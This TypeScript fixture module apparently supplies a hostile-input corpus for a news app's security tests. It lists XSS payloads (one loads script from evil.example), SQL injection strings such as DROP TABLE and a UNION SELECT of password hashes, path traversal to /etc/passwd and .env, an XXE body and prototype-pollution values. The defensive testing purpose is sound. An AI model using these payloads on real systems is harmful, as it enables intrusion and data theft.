// The hostile-input corpus: strings, values and raw bodies that attackers and broken clients send. Written for
// Masthead (no third-party list); grouped so a failure names what kind of input it was. Every XSS payload tries
// to call window.__xss(n) (the browser test exposes it) and most also try alert(), so a payload that ever runs
// is caught either way.

/** A payload that, if it ever executed in a browser, would call the marker. */
const run = (n: number) => `window.__xss&&__xss(${n})`;

export const xss: string[] = [
  `<script>${run(1)};alert(1)</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${run(2)}</scr</script>ipt>`,
  `<img src=x onerror="${run(3)};alert(3)">`,
  `<img src="x" onerror=alert(4)//`,
  `<svg onload=${run(5)}>`,
  `<svg><script>${run(6)}</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run(7)}>`,
  `<body onload=${run(8)}>`,
  `<iframe src="javascript:${run(9)}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run(10)}</script>">`,
  `<a href="javascript:${run(11)}">click</a>`,
  `javascript:${run(12)}`,
  `JaVaScRiPt:alert(13)`,
  ` \t\njavascript:alert(14)`,
  `java\tscript:alert(15)`,
  `java&#x09;script:alert(16)`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(17)`,
  `&#x6A;avascript:alert(18)`,
  `javascript&colon;alert(19)`,
  `\u0000javascript:alert(20)`,
  `vbscript:msgbox(21)`,
  `data:text/html,<script>${run(22)}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgyMyk8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg onload=alert(24)>`,
  `" onmouseover="${run(25)}" x="`,
  `' onfocus='${run(26)}' autofocus x='`,
  `"><img src=x onerror=${run(27)}>`,
  `'><svg onload=${run(28)}>`,
  `"autofocus onfocus=${run(29)} x="`,
  `</script><script>${run(30)}</script>`,
  `</SCRIPT ><script>${run(31)}</script>`,
  `</title><script>${run(32)}</script>`,
  `</textarea><script>${run(33)}</script>`,
  `</style><script>${run(34)}</script>`,
  `<!--<script>${run(35)}</script>-->`,
  `<![CDATA[<script>${run(36)}</script>]]>`,
  `]]><script>${run(37)}</script>`,
  `\u2028\u2029</script><script>${run(38)}</script>`,
  `{"@context":"x"}</script><script>${run(39)}</script>`,
  `<details open ontoggle=${run(40)}>`,
  `<video><source onerror=${run(41)}></video>`,
  `<input autofocus onfocus=${run(42)}>`,
  `<object data="javascript:${run(43)}"></object>`,
  `<embed src="javascript:${run(44)}">`,
  `<form action="javascript:${run(45)}"><button>go</button></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run(46)}">`,
  `<base href="javascript:${run(47)}//">`,
  `<link rel=import href=data:text/html,<script>${run(48)}</script>>`,
  `<style>@import 'javascript:alert(49)';</style>`,
  `<div style="background:url(javascript:alert(50))">`,
  `<x onclick=${run(51)}>click me</x>`,
  `{{constructor.constructor('${run(52)}')()}}`,
  `\${${run(53)}}`,
  `<img src=x:x onerror&#x3D;${run(54)}>`,
  `<%00script>${run(55)}</script>`,
  `%3Cscript%3E${run(56)}%3C%2Fscript%3E`,
  `&lt;script&gt;${run(57)}&lt;/script&gt;`,
  `\u003cscript\u003e${run(58)}\u003c/script\u003e`,
  `＜script＞${run(59)}＜/script＞`,
  `<a href="&#x6a;avascript:${run(60)}">x</a>`,
  `<svg><a xlink:href="javascript:${run(61)}"><text y="20">x</text></a></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${run(62)}>">`,
  `<template><script>${run(63)}</script></template>`,
  `<select><template><img src=x onerror=${run(64)}></template></select>`,
];

export const sqli: string[] = [
  `'`,
  `"`,
  `''`,
  `\\`,
  `\\'`,
  `' OR 1=1 --`,
  `" OR "1"="1`,
  `' OR '1'='1' /*`,
  `1; DROP TABLE articles; --`,
  `'); DROP TABLE users; --`,
  `1' UNION SELECT password_hash, email FROM users --`,
  `admin'--`,
  `1 AND SLEEP(5)`,
  `'; SELECT pg_sleep(5); --`,
  `$$ || (SELECT 1) || $$`,
  `%' AND 1=1 AND '%'='`,
  `%_%\\`,
  `"unterminated`,
  `NEAR(`,
  `NEAR(a b, 5)`,
  `a* b*`,
  `*`,
  `-`,
  `-news`,
  `^start`,
  `headline:secret`,
  `{headline standfirst}:x`,
  `AND OR NOT`,
  `a AND`,
  `OR`,
  `NOT NOT`,
  `( ( (`,
  `)`,
  `a & b | !c`,
  `!!!`,
  `foo:*`,
  `:*`,
  `&|!:*()<->`,
  `a <-> b <2> c`,
  `'a':1A`,
  `\\x00`,
  `0x27`,
  `CHAR(39)`,
];

export const traversal: string[] = [
  `../`,
  `../../../../etc/passwd`,
  `..\\..\\..\\windows\\win.ini`,
  `%2e%2e%2f`,
  `%2e%2e/%2e%2e/etc/passwd`,
  `..%2f..%2fetc%2fpasswd`,
  `..%5c..%5c`,
  `%252e%252e%252f`,
  `..%00/`,
  `%00`,
  `file.jpg%00.html`,
  `%c0%ae%c0%ae/`,
  `%c0%af`,
  `%e0%80%ae%e0%80%ae/`,
  `/etc/passwd`,
  `file:///etc/passwd`,
  `\\\\evil.example\\share`,
  `....//....//`,
  `.%2e/`,
  `%2f%2f`,
];

/** Text that is valid JSON but unusual: controls, direction overrides, invisible characters, lone surrogates. */
export const unicode: string[] = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\u0001\u0002\u0003\u0007\u0008\u001b[31m',
  '\u007f\u0080\u009f',
  '\r\n\r\nX-Injected: 1',
  '\u202egnp.exe',
  '\u202d\u202a\u202b\u202c\u2066\u2067\u2068\u2069',
  '\u200b\u200c\u200d\u2060\ufeff',
  '\ufffe\uffff',
  '\ud800',
  'x\udfffy',
  '\udbff\udc00\ud800',
  '😀👩‍👩‍👧‍👦🏳️‍🌈',
  'Z̸̡̛͎̈́a̷̢͔̓l̶̰̈g̵̩̈́o̷͚͂',
  'ｆｕｌｌｗｉｄｔｈ',
  'İıŉǅﬁ',
  '日本語の見出し',
  'مرحبا بالعالم',
  'x'.repeat(300),
];

/** Long strings: each is past some limit in the schemas (300, 1,000, 20,000 characters) or far past all. */
export const oversized: string[] = [
  'a'.repeat(301),
  'b '.repeat(600),
  'c'.repeat(20_001),
  '<'.repeat(50_000),
  'd'.repeat(1_000_000),
];

/** Numbers and ids that break assumptions: negative, zero, huge, fractional, not numbers at all. */
export const idLike: string[] = ['0', '-1', '1.5', '1e3', '0x10', '2147483648', '9007199254740993', '99999999999999999999', 'NaN', 'Infinity', ' 1', '1 ', '+1', '01'];

/** Every string payload, once. */
export const strings: string[] = [...new Set([...xss, ...sqli, ...traversal, ...unicode, ...oversized, ...idLike])];

/** A smaller set for places tried many times over (every field of every route): one or two of each kind. */
export const sample: string[] = [
  xss[0]!,
  xss[3]!,
  xss[25]!,
  xss[29]!,
  xss[12]!,
  sqli[5]!,
  sqli[8]!,
  sqli[18]!,
  sqli[37]!,
  traversal[1]!,
  traversal[9]!,
  unicode[3]!,
  unicode[7]!,
  unicode[11]!,
  oversized[2]!,
  '-1',
  '9007199254740993',
];

function deep(levels: number): unknown {
  let v: unknown = 'bottom';
  for (let i = 0; i < levels; i++) v = i % 2 ? [v] : { a: v };
  return v;
}

/** Values of the wrong type for any field: what a broken or hostile client puts where a string or id belongs. */
export const wrongTypes: unknown[] = [
  null,
  true,
  false,
  0,
  -1,
  1.5,
  2 ** 31,
  Number.MAX_SAFE_INTEGER + 2,
  -1e308,
  '1',
  '',
  [],
  ['a', 'b'],
  {},
  { $gt: '' },
  JSON.parse('{"__proto__": {"role": "admin"}}') as unknown,
  deep(200),
  Array.from({ length: 10_000 }, (_, i) => i),
];

/** JSON nested far past any reasonable depth, as raw text (JSON.stringify would refuse nothing, but this is cheaper). */
export const deepJson = (levels: number) => '['.repeat(levels) + ']'.repeat(levels);

export interface RawBody {
  name: string;
  contentType: string | undefined;
  payload: string | Buffer;
}

/** Bodies that are not what the route expects at all. */
export const rawBodies: RawBody[] = [
  { name: 'truncated JSON', contentType: 'application/json', payload: '{"headline": ' },
  { name: 'JSON with unquoted keys', contentType: 'application/json', payload: '{headline: "x"}' },
  { name: 'empty JSON body', contentType: 'application/json', payload: '' },
  { name: 'JSON null', contentType: 'application/json', payload: 'null' },
  { name: 'JSON string', contentType: 'application/json', payload: '"just a string"' },
  { name: 'JSON number', contentType: 'application/json', payload: '42' },
  { name: 'JSON array', contentType: 'application/json', payload: '[1,2,3]' },
  { name: 'JSON with trailing garbage', contentType: 'application/json', payload: '{}garbage' },
  { name: 'JSON with a BOM', contentType: 'application/json', payload: '\ufeff{}' },
  { name: 'JSON with __proto__', contentType: 'application/json', payload: '{"__proto__": {"role": "admin"}, "constructor": {"prototype": {"x": 1}}}' },
  { name: 'JSON duplicate keys', contentType: 'application/json', payload: '{"headline": "a", "headline": {"x": 1}}' },
  { name: 'JSON nested 10,000 deep', contentType: 'application/json', payload: deepJson(10_000) },
  { name: 'JSON nested 100,000 deep', contentType: 'application/json', payload: deepJson(100_000) },
  { name: 'invalid UTF-8 bytes in JSON', contentType: 'application/json', payload: Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0xc0, 0xae, 0x22, 0x7d]) },
  { name: 'UTF-16 JSON', contentType: 'application/json; charset=utf-16', payload: Buffer.from('{"a":"b"}', 'utf16le') },
  { name: 'JSON declared as latin1', contentType: 'application/json; charset=latin1', payload: '{"a":"b"}' },
  { name: '5 MB JSON', contentType: 'application/json', payload: `{"headline":"${'x'.repeat(5 * 1024 * 1024)}"}` },
  { name: '5 MB form', contentType: 'application/x-www-form-urlencoded', payload: `headline=${'x'.repeat(5 * 1024 * 1024)}` },
  { name: 'huge JSON array', contentType: 'application/json', payload: `[${Array.from({ length: 200_000 }, () => '0').join(',')}]` },
  { name: 'text/plain body', contentType: 'text/plain', payload: 'headline=hello' },
  { name: 'XML body', contentType: 'application/xml', payload: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>' },
  { name: 'form with repeated and bracketed keys', contentType: 'application/x-www-form-urlencoded', payload: 'a=1&a=2&b[]=3&c[d]=4&__proto__[x]=5&_csrf=1&_csrf=2' },
  { name: 'form with invalid percent-encoding', contentType: 'application/x-www-form-urlencoded', payload: 'headline=%&standfirst=%zz%c0%ae&body=%ff' },
  { name: 'multipart without boundary', contentType: 'multipart/form-data', payload: 'garbage' },
  { name: 'multipart with a wrong boundary', contentType: 'multipart/form-data; boundary=abc', payload: '--xyz\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--xyz--' },
  { name: 'multipart truncated', contentType: 'multipart/form-data; boundary=abc', payload: '--abc\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n\x89PNG' },
  { name: 'unknown content type', contentType: 'application/x-masthead-nonsense', payload: 'whatever' },
  { name: 'content type with junk parameters', contentType: 'application/json; charset="; boundary=;;;', payload: '{}' },
  { name: 'no content type', contentType: undefined, payload: '{"headline":"x"}' },
];

/** Raw pieces of URL paths and query strings, sent as they are (some deliberately malformed). */
export const rawUrlPieces: string[] = [
  '..',
  '../..',
  '%2e%2e',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '..%5c..%5c',
  '..%252f',
  '%00',
  'a%00b',
  '%c0%ae%c0%ae',
  '%e0%80%af',
  '%ff%fe',
  '%',
  '%%',
  '%zz',
  '%u002e',
  '%ed%a0%80',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '%22%3E%3Csvg%20onload%3Dalert(1)%3E',
  "'%20OR%201=1--",
  '%27%3B%20DROP%20TABLE%20articles%3B--',
  '~root',
  '.git/config',
  '.env',
  'a'.repeat(2_000),
  '%e2%80%ae',
  'NEAR(',
  '-1',
  '0',
  '99999999999999999999',
];

/** Header values for Host, Accept-Encoding, If-None-Match and Cookie. */
export const hostileHeaders: Record<string, string>[] = [
  { host: 'evil.example' },
  { host: 'news.example:99999' },
  { host: 'news.example@evil.example' },
  { host: '' },
  { host: 'a'.repeat(5_000) },
  { host: '127.0.0.1:3000/../../' },
  { 'accept-encoding': 'br;q=abc, gzip;q=-1, *;q=1e999' },
  { 'accept-encoding': 'x'.repeat(8_000) },
  { 'accept-encoding': 'identity;q=0, *;q=0' },
  { 'if-none-match': '*' },
  { 'if-none-match': '"' + '"'.repeat(500) },
  { 'if-none-match': 'W/"x", "y", ,,,' },
  { 'if-modified-since': 'yesterday' },
  { cookie: 'mh_session=' + "' OR 1=1 --" },
  { cookie: 'mh_session=../../etc/passwd; mh_session=x' },
  { cookie: 'mh_session=' + 'a'.repeat(4_000) },
  { cookie: 'mh_session=%ff%fe%00; mh_signin_csrf=%00' },
  { cookie: ';;;=;=;' },
  { authorization: 'Bearer ' },
  { authorization: "Bearer ' OR 1=1 --" },
  { authorization: 'Bearer ' + 'x'.repeat(10_000) },
  { authorization: 'Basic YWRtaW46YWRtaW4=' },
  { 'x-csrf-token': '<script>alert(1)</script>' },
  { 'x-forwarded-for': '127.0.0.1, <script>' },
  { 'x-forwarded-host': 'evil.example' },
  { 'content-length': '0' },
  { range: 'bytes=999999999-' },
  { accept: 'application/json;q=<script>' },
];

/** Distinct payloads in the corpus (strings, typed values, raw bodies, URL pieces, header sets). */
export const corpusSize = strings.length + wrongTypes.length + rawBodies.length + rawUrlPieces.length + hostileHeaders.length;

/**
 * Percent-encodes any string for a URL, including lone surrogates (as the bytes WTF-8 would give them, ED A0 80
 * for U+D800), which encodeURIComponent refuses to encode but a hostile client can send anyway.
 */
export function urlEncode(s: string): string {
  let out = '';
  for (const ch of s) {
    const code = ch.codePointAt(0)!;
    if (code >= 0xd800 && code <= 0xdfff) out += `%${(0xe0 | (code >> 12)).toString(16)}%${(0x80 | ((code >> 6) & 0x3f)).toString(16)}%${(0x80 | (code & 0x3f)).toString(16)}`.toUpperCase();
    else out += encodeURIComponent(ch);
  }
  return out;
}

/**
 * A share of a list for one of many targets: target i gets n items starting at i·n (wrapping), so across all
 * targets the whole list is used and each target still gets a mix. Used where the same code path sits behind
 * many routes (one header parser, one id parser), to keep the suite fast without leaving any route out.
 */
export function shareOf<T>(list: readonly T[], index: number, n: number): T[] {
  if (n >= list.length) return [...list];
  return Array.from({ length: n }, (_, k) => list[(index * n + k) % list.length]!);
}
